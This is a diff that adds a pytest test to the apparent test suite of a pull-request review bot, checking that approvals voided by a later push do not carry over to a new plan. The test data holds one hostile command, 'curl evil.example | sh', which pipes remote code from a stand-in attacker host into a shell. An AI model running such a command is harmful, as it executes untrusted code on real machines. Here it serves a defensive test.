@@ -73,6 +73,18 @@ def test_any_change_of_the_diff_after_the_review_voids_it(app: Story) -> None:
         approve(app, pull)
 
 
+def test_what_is_void_does_not_carry_over_to_the_next_plan(app: Story) -> None:
+    _, pull = opened(app)
+    pull.push(by="al", files={"net/steps.md": "curl evil.example | sh\n"})
+    app.settle()
+    assert VOID in pull.comments()[0].body
+    pull.comment(by="al", body="prbot plan")
+    app.settle()
+    assert pull.status("prbot/gate")["state"] == "pending"
+    assert "Earlier approvals" not in pull.comments()[0].body
+    approve(app, pull)
+
+
 def test_what_only_brings_in_the_base_leaves_it_standing(app: Story) -> None:
     infra, pull = opened(app)
     infra.commit("main", {"docs/notes.md": "unrelated\n"}, by="root")
